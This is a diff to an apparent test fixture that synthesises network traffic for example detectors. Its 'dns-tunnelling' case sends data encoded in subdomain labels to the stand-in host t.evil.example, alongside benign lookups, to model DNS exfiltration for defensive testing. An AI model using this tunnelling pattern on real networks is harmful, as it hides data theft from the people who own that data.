@@ -1,4 +1,5 @@
 /** Traffic in which each example detection finds something, beside traffic in which it must not. */
+import { createHash } from 'node:crypto';
 import { concat, u8, u16 } from '../packets/builder.js';
 import { type Cut, type Ends, Traffic, WHOLE } from './traffic.js';
 
@@ -22,7 +23,7 @@ export const EXAMPLE_TRAFFIC: Readonly<Record<string, (traffic: Traffic) => void
   },
   'dns-tunnelling'(traffic) {
     for (let i = 0; i < 14; i++) {
-      const data = Buffer.from(`piece ${i} of a secret file ${i * 7919}`).toString('hex');
+      const data = createHash('sha256').update(`piece ${i}`).digest('base64url').slice(0, 40);
       const question = (name: string) => dnsQuestion(i, name);
       traffic.datagram(ends('10.0.0.7', 50000, '10.0.0.1', 53), question(`${data}.t.evil.example`));
       traffic.datagram(ends('10.0.0.7', 50001, '10.0.0.1', 53), question(`www${i}.good.example`));
